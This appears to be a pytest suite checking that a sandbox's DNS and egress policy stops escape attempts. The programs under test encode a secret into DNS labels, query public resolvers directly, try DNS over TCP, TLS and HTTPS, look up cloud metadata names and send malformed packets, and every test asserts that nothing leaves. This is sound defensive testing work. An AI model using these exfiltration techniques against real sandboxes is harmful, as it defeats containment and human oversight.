"""Hostile programs against the names of a sandbox. Promises E4 to E7, E11 to E13, E32.

The operator's resolver is the test's: what it was asked is what left.
"""

import pytest

from tests.escape.egress_world import PUBLIC, Packet, World, policy

pytestmark = pytest.mark.escape

NXDOMAIN, NOERROR = 3, 0


def test_a_denied_name_causes_no_packet_outside(world: World) -> None:
    """However it is asked: by the C library, over UDP and TCP, or only to be connected to."""
    said = world.run(
        policy("good.test:80"),
        """
import subprocess
result = [
    subprocess.run(["getent", "ahosts", "denied.test"]).returncode,
    get("denied.test"),
    ask(b"denied.test"), ask_over_tcp(b"denied.test"),
    ask(b"denied.test", server="fd00:c1ea::1"), ask_over_tcp(b"denied.test", server="8.8.8.8"),
]
""",
    )
    assert said.result == [2, "gaierror", *[[NXDOMAIN, 0]] * 4]
    assert (world.internet.packets, world.internet.queries) == ([], [])
    assert {event["name"] for event in said.denials("host_not_allowed")} == {"denied.test"}
    world.internet.zone["asked.test"] = [PUBLIC]
    control = world.run(policy("asked.test:80"), "result = get('asked.test')")
    assert control.result == "HTTP/1.1 200 OK"
    assert set(world.internet.queries) == {"asked.test"}
    assert Packet("udp", "127.0.0.53", 53) in world.internet.packets


def test_no_label_carries_data_out(world: World) -> None:
    """E4, E12: below an exactly allowed name, beside it, above it; not even an allowed one."""
    world.internet.zone["exact.test"] = [PUBLIC]
    said = world.run(
        policy("exact.test:80", "*.wide.test:80"),
        """
names = [b"c2VjcmV0.exact.test", b"exact.test.evil.test", b"xexact.test", b"test", b"exact.test.x",
         b"wide.test", b"xwide.test", b"good", b"a" * 63 + b".exact.test"]
result = [[ask(name), ask(name, 28)] for name in names]
result.append(ask(b"c2VjcmV0.wide.test"))
result.append(get("exact.test"))
""",
    )
    *denied, wide, control = said.result
    assert denied == [[[NXDOMAIN, 0], [NXDOMAIN, 0]]] * 9
    assert wide == [NOERROR, 1]  # it may be connected to, but asking alone tells nobody
    assert control == "HTTP/1.1 200 OK"
    assert set(world.internet.queries) == {"exact.test"}


def test_where_an_alias_leads_is_judged_by_its_address(world: World) -> None:
    """E11: nobody inside sees the other name, and an address inside is refused as any other is."""
    world.internet.aliases |= {"in.test": "localhost", "out.test": "denied.test"}
    world.internet.zone |= {"localhost": ["127.0.0.1", "::1"], "denied.test": [PUBLIC]}
    said = world.run(
        policy("in.test:80", "out.test:80"),
        """
import socket
result = [get("in.test"), get("out.test"), ask(b"out.test"), ask(b"denied.test"),
          socket.getaddrinfo("out.test", 80, flags=socket.AI_CANONNAME)[0][3]]
""",
    )
    assert said.result[0].split()[1] == "403"
    assert said.result[1:] == ["HTTP/1.1 200 OK", [NOERROR, 1], [NXDOMAIN, 0], "out.test"]
    (refused,) = said.denials("address_not_allowed")
    assert refused["name"] == "in.test"
    assert {packet.address for packet in world.left()} == {PUBLIC}
    assert set(world.internet.queries) == {"in.test", "out.test"}


def test_records_that_carry_data_or_keys_do_not_exist(world: World) -> None:
    """E5: TXT, NULL, SRV, MX, ANY, HTTPS, SVCB, CNAME, NAPTR, of allowed and denied names."""
    said = world.run(
        policy("good.test:80"),
        """
kinds = [16, 10, 33, 15, 255, 65, 64, 5, 35, 12, 2, 6]
result = [[ask(name, kind) for kind in kinds] for name in (b"good.test", b"denied.test")]
result.append([ask_over_tcp(b"good.test", kind) for kind in kinds])
result.append([ask(b"good.test"), ask(b"good.test", 28)])
""",
    )
    good, denied, over_tcp, control = said.result
    assert good == over_tcp == [[NOERROR, 0]] * 12
    assert denied == [[NXDOMAIN, 0]] * 12
    assert control == [[NOERROR, 1]] * 2
    assert world.internet.packets == []


def test_dns_over_tcp_meets_the_same_policy(world: World) -> None:
    """E6: also many questions on one connection, in pieces, to any server's address."""
    said = world.run(
        policy("good.test:80"),
        """
result = []
for server in ("198.18.0.1", "8.8.8.8", "2001:4860:4860::8888", address_of("good.test")):
    with socket.create_connection((server, 53), 5) as stream:
        asked = [b"good.test", b"evil.test", b"good.test"]
        data = b"".join(vector(2, query(name)) for name in asked)
        for at in range(0, len(data), 7):
            stream.sendall(data[at:at + 7])
        got = b""
        answers = []
        while len(answers) < 3:
            got += stream.recv(4096)
            while len(got) > 1 and len(got) >= 2 + int.from_bytes(got[:2], "big"):
                size = int.from_bytes(got[:2], "big")
                answers.append([got[5] & 15, got[9]])
                got = got[2 + size:]
        result.append(answers)
""",
    )
    assert said.result == [[[NOERROR, 1], [NXDOMAIN, 0], [NOERROR, 1]]] * 4
    assert world.internet.packets == []


def test_other_ways_to_ask_reach_nobody(world: World) -> None:
    """E7, E8: DNS over TLS needs its port allowed; over HTTPS its host."""
    said = world.run(
        policy("good.test:443"),
        f"""
result = [dial(host, port, hello("dns.test"))
          for host, port in (("{PUBLIC}", 853), ("8.8.8.8", 853), ("8.8.8.8", 443),
                             ("good.test", 853))]
result.append(dial("good.test", 443, hello("good.test")))
""",
    )
    assert said.result == [*["ConnectionResetError"] * 4, "upstream\n"]
    assert world.left() == {Packet("tcp", PUBLIC, 443)}


def test_spellings_of_one_name_are_one_name(world: World) -> None:
    """E13: case and one final dot; two dots are none; E32: metadata has no name here."""
    world.internet.zone["cased.test"] = [PUBLIC]
    said = world.run(
        policy("Cased.Test.:80"),
        """
def find(name):
    try:
        return address_of(name)
    except (OSError, UnicodeError) as error:
        return type(error).__name__
result = [find(name) for name in ("cased.test", "CASED.test", "cased.TEST.", "cased..test",
          "cased.test..", ".cased.test", "metadata.google.internal", "instance-data")]
result.append([get("CASED.TEST."), get("cased.test")])
""",
    )
    *found, control = said.result
    assert len(set(found[:3])) == 1
    assert all(name.endswith("Error") or name == "gaierror" for name in found[3:]), found
    assert control == ["HTTP/1.1 200 OK"] * 2
    assert set(world.internet.queries) == {"cased.test"}


def test_questions_that_are_none_break_nothing(world: World) -> None:
    """E5: junk, loops, huge lengths, many questions: nothing leaves and a later one is answered."""
    said = world.run(
        policy("good.test:80"),
        """
import os
head = b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
junk = [b"", b"\\0", head, head + b"\\xc0\\x0c\\0\\1\\0\\1", head + b"\\x3f" + b"a" * 10,
        head + b"\\x01.\\x00\\0\\1\\0\\1", head + b"\\4goo\\0\\4test\\0\\0\\1\\0\\1",
        query(b"good.test")[:4] + b"\\xff\\xff" + query(b"good.test")[6:],
        b"\\1\\2\\x81\\0" + query(b"good.test")[4:], os.urandom(4000)]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    for data in junk:
        out.sendto(data, ("198.18.0.1", 53))
for data in junk:
    with socket.create_connection(("198.18.0.1", 53), 5) as stream:
        stream.sendall(vector(2, data))
with socket.create_connection(("198.18.0.1", 53), 5) as stream:
    stream.sendall(b"\\xff\\xff")
result = [ask(b"good.test"), ask_over_tcp(b"good.test")]
""",
    )
    assert said.result == [[NOERROR, 1]] * 2
    assert world.internet.packets == []
    assert said.denials("protocol_not_allowed")
